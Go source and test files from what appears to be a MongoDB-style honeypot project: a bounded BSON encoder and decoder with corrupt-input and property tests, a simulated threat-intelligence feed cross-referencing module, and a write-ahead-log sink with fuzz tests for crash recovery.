		{Key: "string", Val: "hello"},
		{Key: "doc", Val: D{{Key: "nested", Val: int32(1)}}},
		{Key: "arr", Val: A{int32(1), "two", true}},
		{Key: "bin", Val: Binary{Subtype: 0, Data: []byte{1, 2, 3}}},
		{Key: "oid", Val: ObjectID{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}},
		{Key: "bool", Val: true},
		{Key: "date", Val: ts},
		{Key: "null", Val: nil},
		{Key: "regex", Val: Regex{Pattern: "^a.*", Options: "i"}},
		{Key: "i32", Val: int32(-7)},
		{Key: "ts", Val: Timestamp{T: 100, I: 2}},
		{Key: "i64", Val: int64(1 << 40)},
	}
	out := roundTrip(t, in)
	if !reflect.DeepEqual(in, out) {
		t.Fatalf("round trip mismatch:\n got %#v\nwant %#v", out, in)
	}
}

func TestIntIsEncodedAsInt32(t *testing.T) {
	out := roundTrip(t, D{{Key: "n", Val: 42}})
	if v, _ := out.Lookup("n"); v != int32(42) {
		t.Fatalf("n = %#v", v)
	}
}

func TestLookupHelpers(t *testing.T) {
	d := D{
		{Key: "find", Val: "users"},
		{Key: "limit", Val: int32(5)},
		{Key: "big", Val: int64(10)},
		{Key: "f", Val: 2.5},
		{Key: "filter", Val: D{{Key: "name", Val: "amy"}}},
	}
	if d.CommandName() != "find" {
		t.Fatalf("CommandName = %q", d.CommandName())
	}
	if d.Str("find") != "users" || d.Str("missing") != "" {
		t.Fatal("Str failed")
	}
	if d.Int("limit") != 5 || d.Int("big") != 10 || d.Int("f") != 2 {
		t.Fatal("Int failed")
	}
	if d.Doc("filter").Str("name") != "amy" {
		t.Fatal("Doc failed")
	}
	if (D{}).CommandName() != "" {
		t.Fatal("empty CommandName")
	}
}

func TestCorruptInputs(t *testing.T) {
	good := MustMarshal(D{{Key: "a", Val: "b"}})
	cases := map[string][]byte{
		"empty":           {},
		"tiny":            {4, 0, 0, 0},
		"declared-long":   {0xff, 0xff, 0xff, 0x7f, 0},
		"no-terminator":   append(append([]byte{}, good[:len(good)-1]...), 1),
		"trailing":        append(append([]byte{}, good...), 0),
		"bad-tag":         {0x08, 0, 0, 0, 0x63, 'k', 0, 0},
		"string-too-long": {0x10, 0, 0, 0, 0x02, 'k', 0, 0xff, 0xff, 0xff, 0x7f, 'v', 0, 0},
	}
	for name, b := range cases {
		if _, err := Unmarshal(b); err == nil {
			t.Errorf("%s: corrupt input accepted", name)
		}
	}
}

func TestDeepNestingRejected(t *testing.T) {
	// Build a document nested beyond MaxDepth by hand.
	var build func(depth int) D
	build = func(depth int) D {
		if depth == 0 {
			return D{{Key: "leaf", Val: int32(1)}}
		}
		return D{{Key: "d", Val: build(depth - 1)}}
	}
	if _, err := Marshal(build(MaxDepth + 2)); err == nil {
		t.Fatal("over-deep document marshalled")
	}
	if b, err := Marshal(build(MaxDepth - 2)); err != nil {
		t.Fatalf("in-bounds depth rejected: %v", err)
	} else if _, err := Unmarshal(b); err != nil {
		t.Fatalf("in-bounds depth unmarshal: %v", err)
	}
}

func TestObjectIDString(t *testing.T) {
	o := ObjectID{0x65, 0xfd, 0x01, 0xab, 0, 0, 0, 0, 0, 0, 0x01, 0xff}
	if got := o.String(); got != "65fd01ab00000000000001ff" {
		t.Fatalf("ObjectID.String = %q", got)
	}
}

// genDoc builds a random document for the property round-trip.
func genDoc(r *rand.Rand, depth int) D {
	n := r.Intn(5)
	d := make(D, 0, n)
	for i := 0; i < n; i++ {
		key := string(rune('a'+r.Intn(26))) + string(rune('a'+r.Intn(26))) + string(rune('0'+i))
		var v any
		switch k := r.Intn(8); {
		case k == 0:
			v = r.NormFloat64()
		case k == 1:
			v = randString(r)
		case k == 2 && depth > 0:
			v = genDoc(r, depth-1)
		case k == 3 && depth > 0:
			m := r.Intn(3)
			arr := make(A, m)
			for j := range arr {
				arr[j] = int32(r.Int31())
			}
			v = arr
		case k == 4:
			v = r.Intn(2) == 0
		case k == 5:
			v = int32(r.Int31())
		case k == 6:
			v = int64(r.Uint64())
		default:
			v = nil
		}
		d = append(d, E{Key: key, Val: v})
	}
	return d
}

func randString(r *rand.Rand) string {
	n := r.Intn(16)
	b := make([]rune, n)
	for i := range b {
		b[i] = rune('A' + r.Intn(50))
	}
	return string(b)
}

// Property: Marshal→Unmarshal is the identity on generated documents.
func TestRoundTripQuick(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	f := func() bool {
		in := genDoc(r, 3)
		b, err := Marshal(in)
		if err != nil {
			return false
		}
		out, err := Unmarshal(b)
		if err != nil {
			return false
		}
		if len(in) == 0 && len(out) == 0 {
			return true
		}
		return reflect.DeepEqual(in, out)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}

// Property: Unmarshal never panics on arbitrary bytes.
func TestUnmarshalNeverPanicsQuick(t *testing.T) {
	f := func(b []byte) bool {
		_, _ = Unmarshal(b) // must not panic
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
