// Package bson implements the subset of BSON needed by the MongoDB
// honeypot: ordered documents, arrays, and the scalar types that MongoDB
// drivers and attack tooling actually send. It is written from scratch on
// the standard library and, like everything honeypot-facing, decodes
// hostile input with strict bounds and no panics.
package bson

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math"
	"strconv"
	"time"
)

// Element type tags.
const (
	tDouble    = 0x01
	tString    = 0x02
	tDocument  = 0x03
	tArray     = 0x04
	tBinary    = 0x05
	tObjectID  = 0x07
	tBool      = 0x08
	tDateTime  = 0x09
	tNull      = 0x0a
	tRegex     = 0x0b
	tInt32     = 0x10
	tTimestamp = 0x11
	tInt64     = 0x12
)

// MaxDocument bounds accepted document sizes (MongoDB's own cap is 16MB;
// a honeypot accepts far less).
const MaxDocument = 1 << 20

// MaxDepth bounds document nesting to stop stack exhaustion from crafted
// deeply-nested payloads.
const MaxDepth = 64

// ErrCorrupt reports malformed BSON.
var ErrCorrupt = errors.New("bson: corrupt document")

// E is one key/value element of a document.
type E struct {
	Key string
	Val any
}

// D is an ordered BSON document. Order matters in MongoDB commands (the
// command name must be the first key), hence a slice rather than a map.
type D []E

// A is a BSON array.
type A []any

// ObjectID is the 12-byte MongoDB object id.
type ObjectID [12]byte

// String renders the hex form.
func (o ObjectID) String() string {
	const hexdigits = "0123456789abcdef"
	out := make([]byte, 24)
	for i, b := range o {
		out[2*i] = hexdigits[b>>4]
		out[2*i+1] = hexdigits[b&0x0f]
	}
	return string(out)
}

// Timestamp is the BSON internal timestamp type.
type Timestamp struct {
	T uint32
	I uint32
}

// Regex is a BSON regular expression.
type Regex struct {
	Pattern string
	Options string
}

// Binary is a BSON binary value.
type Binary struct {
	Subtype byte
	Data    []byte
}

// Lookup returns the value for key at the top level.
func (d D) Lookup(key string) (any, bool) {
	for _, e := range d {
		if e.Key == key {
			return e.Val, true
		}
	}
	return nil, false
}

// Str returns the string value for key, or "".
func (d D) Str(key string) string {
	if v, ok := d.Lookup(key); ok {
		if s, ok := v.(string); ok {
			return s
		}
	}
	return ""
}

// Int returns the numeric value for key as int64 (int32/int64/double), or 0.
func (d D) Int(key string) int64 {
	v, ok := d.Lookup(key)
	if !ok {
		return 0
	}
	switch n := v.(type) {
	case int32:
		return int64(n)
	case int64:
		return n
	case float64:
		return int64(n)
	}
	return 0
}

// Doc returns the sub-document for key, or nil.
func (d D) Doc(key string) D {
	if v, ok := d.Lookup(key); ok {
		if sub, ok := v.(D); ok {
			return sub
		}
	}
	return nil
}

// CommandName returns the first key of the document, which is how MongoDB
// identifies commands.
func (d D) CommandName() string {
	if len(d) == 0 {
		return ""
	}
	return d[0].Key
}

// Marshal encodes d to BSON bytes.
func Marshal(d D) ([]byte, error) {
	return appendDoc(nil, d, 0)
}

// MustMarshal encodes d, panicking on error. Only for trusted,
// honeypot-authored documents (response templates, fake data).
func MustMarshal(d D) []byte {
	b, err := Marshal(d)
	if err != nil {
		panic(err)
	}
	return b
}

func appendDoc(dst []byte, d D, depth int) ([]byte, error) {
	if depth > MaxDepth {
		return nil, fmt.Errorf("%w: nesting too deep", ErrCorrupt)
	}
	start := len(dst)
	dst = append(dst, 0, 0, 0, 0)
	var err error
	for _, e := range d {
		dst, err = appendElem(dst, e.Key, e.Val, depth)
		if err != nil {
			return nil, err
		}
	}
	dst = append(dst, 0)
	binary.LittleEndian.PutUint32(dst[start:], uint32(len(dst)-start))
	return dst, nil
}

func appendElem(dst []byte, key string, v any, depth int) ([]byte, error) {
	tag := func(t byte) []byte {
		dst = append(dst, t)
		dst = append(dst, key...)
		return append(dst, 0)
	}
	var err error
	switch x := v.(type) {
	case float64:
		dst = tag(tDouble)
		dst = binary.LittleEndian.AppendUint64(dst, math.Float64bits(x))
	case string:
		dst = tag(tString)
		dst = binary.LittleEndian.AppendUint32(dst, uint32(len(x)+1))
		dst = append(dst, x...)
		dst = append(dst, 0)
	case D:
		dst = tag(tDocument)
		dst, err = appendDoc(dst, x, depth+1)
	case A:
		dst = tag(tArray)
		arr := make(D, len(x))
		for i, el := range x {
			arr[i] = E{Key: strconv.Itoa(i), Val: el}
		}
		dst, err = appendDoc(dst, arr, depth+1)
	case Binary:
		dst = tag(tBinary)
		dst = binary.LittleEndian.AppendUint32(dst, uint32(len(x.Data)))
		dst = append(dst, x.Subtype)
		dst = append(dst, x.Data...)
	case ObjectID:
		dst = tag(tObjectID)
		dst = append(dst, x[:]...)
	case bool:
		dst = tag(tBool)
		if x {
			dst = append(dst, 1)
		} else {
			dst = append(dst, 0)
		}
	case time.Time:
		dst = tag(tDateTime)
		dst = binary.LittleEndian.AppendUint64(dst, uint64(x.UnixMilli()))
	case nil:
		dst = tag(tNull)
	case Regex:
		dst = tag(tRegex)
		dst = append(dst, x.Pattern...)
		dst = append(dst, 0)
		dst = append(dst, x.Options...)
		dst = append(dst, 0)
	case int32:
		dst = tag(tInt32)
		dst = binary.LittleEndian.AppendUint32(dst, uint32(x))
	case int:
		dst = tag(tInt32)
		dst = binary.LittleEndian.AppendUint32(dst, uint32(int32(x)))
	case Timestamp:
		dst = tag(tTimestamp)
		dst = binary.LittleEndian.AppendUint32(dst, x.I)
		dst = binary.LittleEndian.AppendUint32(dst, x.T)
	case int64:
		dst = tag(tInt64)
		dst = binary.LittleEndian.AppendUint64(dst, uint64(x))
	default:
		return nil, fmt.Errorf("bson: unsupported type %T for key %q", v, key)
	}
	return dst, err
}

// Unmarshal decodes one document occupying the whole of b.
func Unmarshal(b []byte) (D, error) {
	d, n, err := readDoc(b, 0)
	if err != nil {
		return nil, err
	}
	if n != len(b) {
		return nil, fmt.Errorf("%w: %d trailing bytes", ErrCorrupt, len(b)-n)
	}
	return d, nil
}

// DocLen reports the declared length of the document starting at b,
// validating bounds.
func DocLen(b []byte) (int, error) {
	if len(b) < 5 {
		return 0, fmt.Errorf("%w: truncated header", ErrCorrupt)
	}
	n := int(int32(binary.LittleEndian.Uint32(b)))
	if n < 5 || n > MaxDocument || n > len(b) {
		return 0, fmt.Errorf("%w: declared length %d of %d", ErrCorrupt, n, len(b))
	}
	return n, nil
}

func readDoc(b []byte, depth int) (D, int, error) {
	if depth > MaxDepth {
		return nil, 0, fmt.Errorf("%w: nesting too deep", ErrCorrupt)
	}
	n, err := DocLen(b)
	if err != nil {
		return nil, 0, err
	}
	body := b[4 : n-1]
	if b[n-1] != 0 {
		return nil, 0, fmt.Errorf("%w: missing terminator", ErrCorrupt)
	}
	d := D{}
	off := 0
	for off < len(body) {
		tag := body[off]
		off++
		key, m, err := readCString(body[off:])
		if err != nil {
			return nil, 0, err
		}
		off += m
		val, m2, err := readValue(tag, body[off:], depth)
		if err != nil {
			return nil, 0, err
		}
		off += m2
		d = append(d, E{Key: key, Val: val})
	}
	return d, n, nil
}

func readCString(b []byte) (string, int, error) {
	for i, c := range b {
		if c == 0 {
			return string(b[:i]), i + 1, nil
		}
	}
	return "", 0, fmt.Errorf("%w: unterminated cstring", ErrCorrupt)
}

func readValue(tag byte, b []byte, depth int) (any, int, error) {
	need := func(n int) error {
		if len(b) < n {
			return fmt.Errorf("%w: truncated value (tag %#x)", ErrCorrupt, tag)
		}
		return nil
	}
	switch tag {
	case tDouble:
		if err := need(8); err != nil {
			return nil, 0, err
		}
		return math.Float64frombits(binary.LittleEndian.Uint64(b)), 8, nil
	case tString:
		if err := need(4); err != nil {
			return nil, 0, err
		}
		n := int(int32(binary.LittleEndian.Uint32(b)))
		if n < 1 || n > MaxDocument || len(b) < 4+n {
			return nil, 0, fmt.Errorf("%w: string length %d", ErrCorrupt, n)
		}
		if b[4+n-1] != 0 {
			return nil, 0, fmt.Errorf("%w: string missing NUL", ErrCorrupt)
		}
		return string(b[4 : 4+n-1]), 4 + n, nil
	case tDocument:
		d, n, err := readDoc(b, depth+1)
		return d, n, err
	case tArray:
		d, n, err := readDoc(b, depth+1)
		if err != nil {
			return nil, 0, err
		}
		arr := make(A, len(d))
		for i, e := range d {
			arr[i] = e.Val
		}
		return arr, n, nil
	case tBinary:
		if err := need(5); err != nil {
			return nil, 0, err
		}
		n := int(int32(binary.LittleEndian.Uint32(b)))
		if n < 0 || n > MaxDocument || len(b) < 5+n {
			return nil, 0, fmt.Errorf("%w: binary length %d", ErrCorrupt, n)
		}
		data := make([]byte, n)
		copy(data, b[5:5+n])
		return Binary{Subtype: b[4], Data: data}, 5 + n, nil
	case tObjectID:
		if err := need(12); err != nil {
			return nil, 0, err
		}
		var o ObjectID
		copy(o[:], b)
		return o, 12, nil
	case tBool:
		if err := need(1); err != nil {
			return nil, 0, err
		}
		return b[0] != 0, 1, nil
	case tDateTime:
		if err := need(8); err != nil {
			return nil, 0, err
		}
		ms := int64(binary.LittleEndian.Uint64(b))
		return time.UnixMilli(ms).UTC(), 8, nil
	case tNull:
		return nil, 0, nil
	case tRegex:
		pat, n1, err := readCString(b)
		if err != nil {
			return nil, 0, err
		}
		opt, n2, err := readCString(b[n1:])
		if err != nil {
			return nil, 0, err
		}
		return Regex{Pattern: pat, Options: opt}, n1 + n2, nil
	case tInt32:
		if err := need(4); err != nil {
			return nil, 0, err
		}
		return int32(binary.LittleEndian.Uint32(b)), 4, nil
	case tTimestamp:
		if err := need(8); err != nil {
			return nil, 0, err
		}
		return Timestamp{I: binary.LittleEndian.Uint32(b), T: binary.LittleEndian.Uint32(b[4:])}, 8, nil
	case tInt64:
		if err := need(8); err != nil {
			return nil, 0, err
		}
		return int64(binary.LittleEndian.Uint64(b)), 8, nil
	default:
		return nil, 0, fmt.Errorf("%w: unsupported element tag %#x", ErrCorrupt, tag)
	}
}
