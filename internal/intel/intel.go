// Package intel models the threat-intelligence platforms the paper
// cross-referenced its attacker IPs against — GreyNoise, AbuseIPDB, the
// Team Cymru scout API and the FEODO botnet-C2 tracker — as local feed
// snapshots. The paper's finding is a coverage gap (most DBMS exploiters
// are unknown to these platforms); the feeds here have configurable
// coverage so that measurement methodology can be reproduced and tested.
package intel

import (
	"math/rand"
	"net/netip"
	"sort"
	"time"
)

// Feed names used by the default snapshot set.
const (
	GreyNoise = "greynoise"
	AbuseIPDB = "abuseipdb"
	TeamCymru = "teamcymru"
	FEODO     = "feodo"
)

// Entry is one feed record for an address.
type Entry struct {
	Malicious  bool
	Tags       []string
	LastReport time.Time
}

// Feed is an immutable-after-build snapshot of one platform's knowledge.
type Feed struct {
	Name    string
	entries map[netip.Addr]Entry
}

// NewFeed returns an empty feed.
func NewFeed(name string) *Feed {
	return &Feed{Name: name, entries: make(map[netip.Addr]Entry)}
}

// Add records an entry for addr.
func (f *Feed) Add(addr netip.Addr, e Entry) { f.entries[addr] = e }

// Lookup returns the entry for addr.
func (f *Feed) Lookup(addr netip.Addr) (Entry, bool) {
	e, ok := f.entries[addr]
	return e, ok
}

// Len reports the number of listed addresses.
func (f *Feed) Len() int { return len(f.entries) }

// AddAll merges the entries of other into f (other wins on conflicts).
func (f *Feed) AddAll(other *Feed) {
	for a, e := range other.entries {
		f.entries[a] = e
	}
}

// Coverage describes how a feed should be populated relative to a set of
// actor addresses: which fraction appears at all, which fraction of those
// is flagged malicious, and with what tags.
type Coverage struct {
	ListedFrac    float64
	MaliciousFrac float64 // of listed entries
	Tags          []string
}

// BuildFeed populates a feed over addrs with the given coverage, seeded
// deterministically.
func BuildFeed(name string, addrs []netip.Addr, cov Coverage, seed int64) *Feed {
	f := NewFeed(name)
	r := rand.New(rand.NewSource(seed))
	sorted := make([]netip.Addr, len(addrs))
	copy(sorted, addrs)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Less(sorted[j]) })
	for _, a := range sorted {
		if r.Float64() >= cov.ListedFrac {
			continue
		}
		e := Entry{
			Malicious:  r.Float64() < cov.MaliciousFrac,
			LastReport: time.Date(2024, 4, 1, 0, 0, 0, 0, time.UTC).Add(-time.Duration(r.Intn(180*24)) * time.Hour),
		}
		if len(cov.Tags) > 0 {
			e.Tags = []string{cov.Tags[r.Intn(len(cov.Tags))]}
		}
		f.Add(a, e)
	}
	return f
}

// Stat summarises one feed's knowledge of a population.
type Stat struct {
	Feed      string
	Total     int
	Listed    int
	Malicious int
}

// ListedPct returns Listed/Total as a percentage.
func (s Stat) ListedPct() float64 {
	if s.Total == 0 {
		return 0
	}
	return 100 * float64(s.Listed) / float64(s.Total)
}

// MaliciousPct returns Malicious/Total as a percentage.
func (s Stat) MaliciousPct() float64 {
	if s.Total == 0 {
		return 0
	}
	return 100 * float64(s.Malicious) / float64(s.Total)
}

// CrossReference checks every addr against every feed, reproducing the
// paper's Section 5 / Section 6.2 platform comparison.
func CrossReference(feeds []*Feed, addrs []netip.Addr) []Stat {
	stats := make([]Stat, len(feeds))
	for i, f := range feeds {
		st := Stat{Feed: f.Name, Total: len(addrs)}
		for _, a := range addrs {
			if e, ok := f.Lookup(a); ok {
				st.Listed++
				if e.Malicious {
					st.Malicious++
				}
			}
		}
		stats[i] = st
	}
	return stats
}
