package intel

import (
	"math"
	"net/netip"
	"testing"
)

func addrs(n int) []netip.Addr {
	out := make([]netip.Addr, n)
	for i := range out {
		out[i] = netip.AddrFrom4([4]byte{20, byte(i >> 8), byte(i), 1})
	}
	return out
}

func TestBuildFeedCoverage(t *testing.T) {
	pop := addrs(2000)
	f := BuildFeed(GreyNoise, pop, Coverage{ListedFrac: 0.5, MaliciousFrac: 0.4, Tags: []string{"MSSQL bruteforcer"}}, 1)
	got := float64(f.Len()) / float64(len(pop))
	if math.Abs(got-0.5) > 0.05 {
		t.Fatalf("listed fraction = %.3f, want ~0.5", got)
	}
	var mal int
	for _, a := range pop {
		if e, ok := f.Lookup(a); ok {
			if e.Malicious {
				mal++
			}
			if len(e.Tags) != 1 || e.Tags[0] != "MSSQL bruteforcer" {
				t.Fatalf("tags = %v", e.Tags)
			}
			if e.LastReport.IsZero() {
				t.Fatal("zero LastReport")
			}
		}
	}
	if frac := float64(mal) / float64(f.Len()); math.Abs(frac-0.4) > 0.06 {
		t.Fatalf("malicious fraction = %.3f, want ~0.4", frac)
	}
}

func TestBuildFeedDeterministic(t *testing.T) {
	pop := addrs(100)
	a := BuildFeed(AbuseIPDB, pop, Coverage{ListedFrac: 0.3, MaliciousFrac: 1}, 9)
	b := BuildFeed(AbuseIPDB, pop, Coverage{ListedFrac: 0.3, MaliciousFrac: 1}, 9)
	if a.Len() != b.Len() {
		t.Fatalf("lens differ: %d vs %d", a.Len(), b.Len())
	}
	for _, p := range pop {
		_, inA := a.Lookup(p)
		_, inB := b.Lookup(p)
		if inA != inB {
			t.Fatalf("feed membership differs for %v", p)
		}
	}
}

func TestCrossReference(t *testing.T) {
	pop := addrs(10)
	f := NewFeed(TeamCymru)
	f.Add(pop[0], Entry{Malicious: true, Tags: []string{"redis"}})
	f.Add(pop[1], Entry{Malicious: false})
	empty := NewFeed(FEODO)

	stats := CrossReference([]*Feed{f, empty}, pop)
	if stats[0].Listed != 2 || stats[0].Malicious != 1 || stats[0].Total != 10 {
		t.Fatalf("stats[0] = %+v", stats[0])
	}
	if stats[1].Listed != 0 {
		t.Fatalf("stats[1] = %+v", stats[1])
	}
	if got := stats[0].ListedPct(); got != 20 {
		t.Fatalf("ListedPct = %v", got)
	}
	if got := stats[0].MaliciousPct(); got != 10 {
		t.Fatalf("MaliciousPct = %v", got)
	}
	zero := Stat{}
	if zero.ListedPct() != 0 || zero.MaliciousPct() != 0 {
		t.Fatal("zero-total percentages")
	}
}
