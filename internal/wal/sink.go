package wal

import "decoydb/internal/core"

// Sink adapts a Log to the core sink contracts so it can hang directly
// off the event bus: each delivered batch becomes one WAL batch record.
// decoydb uses this as the local journal — the bus fans out to the
// in-memory store, the relay forwarder and this sink, so every captured
// event hits disk in the same breath it hits memory.
type Sink struct {
	l *Log
}

// NewSink returns a bus-attachable sink journaling into l.
func NewSink(l *Log) *Sink { return &Sink{l: l} }

// Log returns the underlying log.
func (s *Sink) Log() *Log { return s.l }

// Record implements core.Sink. Single events pay a whole record each;
// deliver through the batch path where possible.
func (s *Sink) Record(e core.Event) {
	_, _ = s.l.Append([]core.Event{e}, nil)
}

// RecordBatch implements core.BatchSink.
func (s *Sink) RecordBatch(events []core.Event) error {
	_, err := s.l.Append(events, nil)
	return err
}

// Flush implements core.Flusher: it forces appended records to stable
// storage, so a quiesce point (shutdown, snapshot dump) really is on
// disk.
func (s *Sink) Flush() {
	_ = s.l.Sync()
}
