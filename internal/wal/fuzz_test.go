package wal

import (
	"encoding/binary"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/evcodec"
	"decoydb/internal/wire"
)

// FuzzSegment throws arbitrary bytes at Open as the content of a
// segment file. A WAL directory outlives the process that wrote it, so
// recovery must treat it like network input: truncated tails, flipped
// bits, oversized declared lengths — for every input Open must return a
// working log (never panic, never allocate past the configured limits),
// whatever survives must replay cleanly, and the log must accept new
// appends and reopen cleanly afterwards.
func FuzzSegment(f *testing.F) {
	// A fully valid segment with three batches and a mark.
	seedDir := f.TempDir()
	l, err := Open(Options{Dir: seedDir, Sync: SyncBatch})
	if err != nil {
		f.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		evs := make([]core.Event, 2)
		for j := range evs {
			evs[j] = testEvent(i*2 + j)
		}
		if _, err := l.Append(evs, []byte{byte(i)}); err != nil {
			f.Fatal(err)
		}
	}
	if err := l.AppendMark(2); err != nil {
		f.Fatal(err)
	}
	if err := l.Close(); err != nil {
		f.Fatal(err)
	}
	valid, err := os.ReadFile(filepath.Join(seedDir, segName(1)))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(valid)
	f.Add(valid[:len(valid)-3])     // torn mid-record
	f.Add(valid[:headerSize])       // header only
	f.Add(valid[:headerSize/2])     // torn mid-header
	f.Add([]byte{})                 // empty file
	f.Add([]byte("not a wal file")) // garbage header
	flipped := append([]byte(nil), valid...)
	flipped[headerSize+12] ^= 0x80 // bit flip inside first record
	f.Add(flipped)
	// Valid header, then a record declaring a huge length.
	huge := append([]byte(nil), valid[:headerSize]...)
	huge = binary.BigEndian.AppendUint32(huge, 0xfffffff0)
	huge = append(huge, 0xde, 0xad)
	f.Add(huge)
	// Valid header, zero-length record (too short for even a CRC).
	zero := append([]byte(nil), valid[:headerSize]...)
	zero = binary.BigEndian.AppendUint32(zero, 0)
	f.Add(zero)

	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, segName(1)), data, 0o644); err != nil {
			t.Fatal(err)
		}
		// Tight limits: a hostile declared length must be bounded by
		// these, not by available memory.
		opts := Options{
			Dir:            dir,
			MaxRecordBytes: 1 << 16,
			Limits:         evcodec.Limits{MaxRaw: 1 << 16, MaxEvents: 256},
		}
		l, err := Open(opts)
		if err != nil {
			// Open fails only on I/O errors, never on content.
			t.Fatalf("Open: %v", err)
		}
		st := l.Stats()
		// Whatever recovery accepted must replay without error, with
		// exactly the accounted number of batches.
		var batches, events uint64
		if err := l.Replay(0, func(seq uint64, tag []byte, evs []core.Event) error {
			batches++
			events += uint64(len(evs))
			if seq > st.LastSeq {
				t.Fatalf("replayed seq %d past recovered LastSeq %d", seq, st.LastSeq)
			}
			return nil
		}); err != nil {
			t.Fatalf("Replay after recovery: %v", err)
		}
		if batches != st.Recovered.Batches || events != st.Recovered.Events {
			t.Fatalf("replayed %d batches/%d events, recovery accounted %d/%d",
				batches, events, st.Recovered.Batches, st.Recovered.Events)
		}
		// The log must be live: append, sync, reopen with nothing torn.
		seq, err := l.Append([]core.Event{testEvent(1)}, []byte("t"))
		if err != nil {
			t.Fatalf("Append after recovery: %v", err)
		}
		if seq != st.LastSeq+1 {
			t.Fatalf("appended seq %d, want %d", seq, st.LastSeq+1)
		}
		if err := l.Close(); err != nil {
			t.Fatalf("Close: %v", err)
		}
		l2, err := Open(opts)
		if err != nil {
			t.Fatalf("reopen: %v", err)
		}
		if st2 := l2.Stats(); st2.Recovered.TornBytes != 0 {
			t.Fatalf("second open found torn bytes %d — truncation was not physical", st2.Recovered.TornBytes)
		} else if st2.LastSeq != seq {
			t.Fatalf("reopen LastSeq = %d, want %d", st2.LastSeq, seq)
		}
		l2.Close()
	})
}

// FuzzOwnerRecord throws arbitrary bytes at recovery as the body of a
// frame-ownership record. Ownership is what keeps a restarted farm from
// retransmitting an acked frame to the wrong collector, so a corrupt
// owner record must never half-parse into a wrong pin: for every input,
// Open must either decode the record exactly as evcodec.ReadOwner would
// and surface the pin in Owners(), or reject it as a torn tail —
// counted, physically truncated, with every batch before it intact and
// the log still live for real pins afterwards. The record is framed
// with a valid CRC deliberately: the codec, not the checksum, is under
// test here.
func FuzzOwnerRecord(f *testing.F) {
	valid, err := evcodec.AppendOwner(nil, 2, "10.0.0.1:7100")
	if err != nil {
		f.Fatal(err)
	}
	release, err := evcodec.AppendOwner(nil, 2, "")
	if err != nil {
		f.Fatal(err)
	}
	maxAddr, err := evcodec.AppendOwner(nil, 7, strings.Repeat("a", evcodec.MaxOwnerAddr))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(valid)
	f.Add(release)
	f.Add(maxAddr)
	f.Add(valid[:3])                                   // torn mid-seq
	f.Add(append(append([]byte(nil), valid...), 0xff)) // trailing byte
	// Declared address length far past MaxOwnerAddr: must be bounded
	// before allocation, never trusted.
	huge := binary.LittleEndian.AppendUint64(nil, 9)
	huge = binary.LittleEndian.AppendUint16(huge, 0xffff)
	f.Add(huge)
	zero, err := evcodec.AppendOwner(nil, 0, "pin-below-any-mark")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(zero)
	f.Add([]byte{})

	f.Fuzz(func(t *testing.T, body []byte) {
		dir := t.TempDir()
		l, err := Open(Options{Dir: dir, Sync: SyncBatch})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 2; i++ {
			if _, err := l.Append([]core.Event{testEvent(i)}, nil); err != nil {
				t.Fatal(err)
			}
		}
		if err := l.Close(); err != nil {
			t.Fatal(err)
		}
		// Hand-frame {recOwner, body...} exactly as writeRecordLocked
		// would: length (4 BE, counting the CRC), CRC-32 (4 LE), body.
		rec := append([]byte{recOwner}, body...)
		framed := binary.BigEndian.AppendUint32(nil, uint32(4+len(rec)))
		framed = binary.LittleEndian.AppendUint32(framed, crc32.ChecksumIEEE(rec))
		framed = append(framed, rec...)
		fh, err := os.OpenFile(filepath.Join(dir, segName(1)), os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := fh.Write(framed); err != nil {
			t.Fatal(err)
		}
		if err := fh.Close(); err != nil {
			t.Fatal(err)
		}

		opts := Options{
			Dir:            dir,
			MaxRecordBytes: 1 << 16,
			Limits:         evcodec.Limits{MaxRaw: 1 << 16, MaxEvents: 256},
		}
		l2, err := Open(opts)
		if err != nil {
			t.Fatalf("Open: %v", err)
		}
		st := l2.Stats()
		owners := l2.Owners()
		if st.Recovered.Batches != 2 {
			t.Fatalf("recovered %d batches, want 2 — the owner record sits after them", st.Recovered.Batches)
		}
		wantSeq, wantAddr, decErr := evcodec.ReadOwner(wire.NewReader(body))
		if decErr == nil {
			// The record is well-formed: recovery must account it and
			// reproduce the pin bit-for-bit (releases and pins at or
			// below the mark — zero here — leave no trace).
			if st.Recovered.TornBytes != 0 {
				t.Fatalf("valid owner record cost %d torn bytes", st.Recovered.TornBytes)
			}
			if st.Recovered.Owners != 1 {
				t.Fatalf("recovery accounted %d owner records, want 1", st.Recovered.Owners)
			}
			if wantAddr != "" && wantSeq > 0 {
				if got := owners[wantSeq]; got != wantAddr {
					t.Fatalf("pin %d recovered as %q, want %q", wantSeq, got, wantAddr)
				}
			} else if _, ok := owners[wantSeq]; ok {
				t.Fatalf("released/below-mark pin %d resurfaced as %q", wantSeq, owners[wantSeq])
			}
		} else {
			// The record is corrupt: it must vanish entirely — no pin,
			// and the tail counted as torn, never silently skipped.
			if len(owners) != 0 {
				t.Fatalf("corrupt owner record (%v) left pins %v", decErr, owners)
			}
			if st.Recovered.TornBytes == 0 {
				t.Fatalf("corrupt owner record (%v) was accepted with no torn bytes", decErr)
			}
		}
		// The log must stay live for real ownership traffic: journal a
		// pin, reopen, and the pin must round-trip.
		if err := l2.AppendOwner(2, "10.0.0.2:7100"); err != nil {
			t.Fatalf("AppendOwner after recovery: %v", err)
		}
		if err := l2.Close(); err != nil {
			t.Fatal(err)
		}
		l3, err := Open(opts)
		if err != nil {
			t.Fatalf("reopen: %v", err)
		}
		if got := l3.Owners()[2]; got != "10.0.0.2:7100" {
			t.Fatalf("pin journaled after recovery came back as %q", got)
		}
		if st3 := l3.Stats(); st3.Recovered.TornBytes != 0 {
			t.Fatalf("second open found torn bytes %d — truncation was not physical", st3.Recovered.TornBytes)
		}
		l3.Close()
	})
}
